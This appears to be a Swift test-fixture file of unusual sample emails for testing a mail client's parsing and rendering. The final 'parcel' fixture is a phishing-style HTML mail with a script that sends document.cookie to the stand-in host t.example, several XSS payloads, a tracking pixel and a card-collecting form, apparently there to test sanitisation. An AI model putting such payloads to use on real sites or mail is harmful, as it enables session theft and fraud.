extension SampleLetter {
    /// Letters that people really send, and that programs stumble over.
    static let odd: [SampleLetter] = [
        SampleLetter(
            "all-in-subject", to: .support, from: .beth,
            "Hello I tried to call but nobody answered so I write everything here because the app on "
                + "my phone has this line only, the router you sent as a replacement is the black "
                + "one and we ordered the white one because it hangs in the hall where everybody "
                + "sees it, and the plug is for another country, please tell me whether I should "
                + "send the whole box back or only the plug and who pays for the postage this time "
                + "since it was not our mistake, also my son says the password on the sticker is too "
                + "easy and wants to know how to change it without the app, thank you very much and "
                + "sorry for the long text, Beth from the bookshop at the corner of Mill Lane",
            zone: -300, .text("\n", .plain)),
        SampleLetter(
            "nothing", to: .office, from: .tomas, "",
            .mixed([
                .text("", .plain),
                .file(
                    "factura-0093.pdf", type: "application/pdf", SamplePicture.pdf("Factura 0093")),
            ])),
        SampleLetter(
            "forwarded", to: .support, from: .tunde, "Fwd: Complaint from the trade fair", zone: 0,
            write: { paper, letter in forwarded(paper, letter) }),
        SampleLetter(
            "forwarded-inline", to: .sales, from: .amelie, "Tr: Tarif associations",
            .text(
                """
                Bonjour, voici la question de notre trésorier, pouvez-vous lui répondre directement ?
                Amélie

                ---------- Message transféré ----------
                De : Luc Moreau <luc.moreau@example.org>
                Objet : Tarif associations
                À : <a.fournier@atelier-fournier.example>

                Chère Amélie, sait-on si le tarif pour les associations vaut aussi pour les
                coopératives ? Il me faut la réponse avant l'assemblée générale.
                Luc
                """, .quoted)),
        SampleLetter(
            "urgent", to: .support, from: .ollie, "URGENT!!! shop is down",
            extra: [
                "Cc: =?UTF-8?Q?J=C3=BCrgen_Wei=C3=9F?= <j.weiss@weiss-elektro.example>,",
                " \"Brandt, Ollie\" <ollie.private@example.net>, billing@brandt-bikes.example",
                "X-Priority: 1 (Highest)", "Importance: high",
            ],
            .text(
                """
                Nobody can pay since 09:40. The checkout says "E-417 no answer from ledger".
                It's Saturday, this is our best day, please call me: +00 555 0142

                Ollie
                """)),
        SampleLetter(
            "phone-2", to: .support, from: .priya, "Re: Dashboard looks broken on my phone",
            answers: ("phone", .priya), zone: 330,
            .alternative([
                .text(
                    """
                    One more thing: turning the phone sideways brings the menu back, so it's not
                    urgent for me.

                    Priya

                    On another day, Priya Raman wrote:
                    > the red bar on the dashboard hangs over the edge since yesterday
                    """),
                .text(
                    """
                    <div>One more thing: turning the phone sideways brings the menu back, so it's not
                    urgent for me.</div><div><br></div><div>Priya</div>
                    <blockquote style="margin:0 0 0 .8ex;border-left:1px #ccc solid;padding-left:1ex">
                    <div>the red bar on the dashboard hangs over the edge since yesterday</div>
                    </blockquote>
                    """, subtype: "html"),
            ])),
        SampleLetter(
            "signed", to: .sales, from: .soeren, "Signed order for twelve routers",
            .multipart(
                "signed; micalg=pgp-sha256; protocol=\"application/pgp-signature\"",
                [
                    .text(
                        """
                        Please deliver twelve Fjord routers to Havnegade 4 before the end of the
                        month. This mail is signed.

                        Søren
                        """, .quoted),
                    .raw(
                        """
                        Content-Type: application/pgp-signature; name="signature.asc"
                        Content-Description: OpenPGP digital signature
                        """,
                        """
                        -----BEGIN PGP SIGNATURE-----

                        c2FtcGxlIG9ubHksIG5vdCBhIHJlYWwgc2lnbmF0dXJl
                        -----END PGP SIGNATURE-----
                        """),
                ])),
        // The first mail once more, as some servers deliver it after an outage.
        beginning[0],
        SampleLetter(
            "parcel", to: .office, from: SampleSender("Parcel Desk", "desk@parcels.example"),
            "Your parcel is waiting (last notice)",
            .text(
                """
                <html><head><title>x</title><style>body{background:url(http://t.example/b.png)}</style>
                <script>document.location='http://t.example/?'+document.cookie</script></head>
                <body onload="alert(1)"><h1 style="color:#b00">Last notice</h1>
                <p>Confirm your address <a href="javascript:alert(2)">here</a> or
                <a href="http://t.example/confirm">on our page</a>.</p>
                <img src="http://t.example/pixel.gif?id=77" width="1" height="1">
                <form action="http://t.example/take"><input name="card" value=""><button>Pay</button>
                </form><iframe src="http://t.example/frame"></iframe>
                <svg onload="alert(3)"><circle r="9"/></svg>
                <div style="position:fixed;top:0;left:0;width:9999px">on top of everything</div>
                </body></html>
                """, subtype: "html")),
    ]

    /// A mail with another one inside as message/rfc822.
    private static func forwarded(_ paper: SamplePaper, _ letter: SampleLetter) -> [UInt8] {
        let date = SampleEncoding.date(paper.at - 86400, zone: 0)
        let inner = SamplePart.raw(
            """
            Content-Type: message/rfc822
            Content-Disposition: attachment; filename="complaint.eml"
            """,
            """
            Date: \(date)
            From: Rosa Lindt <rosa@lindt-optik.example>
            To: Tunde Adeyemi <\(letter.from.address)>
            Subject: Complaint from the trade fair
            Message-ID: <fair-\(paper.seed("rosa"))@lindt-optik.example>
            MIME-Version: 1.0
            Content-Type: text/plain; charset=utf-8
            Content-Transfer-Encoding: 8bit

            Dear Mr Adeyemi,

            at the fair your colleague promised me a test router within a week. That was a month
            ago. Are you still interested?

            Rosa Lindt
            """)
        let note = SamplePart.text(
            "Can somebody take this over? I met her at the fair and forgot. Sorry!\n\nTunde\n")
        return paper.head(letter)
            + SamplePart.mixed([note, inner]).bytes(boundary: paper.seed(letter.key))
    }
}
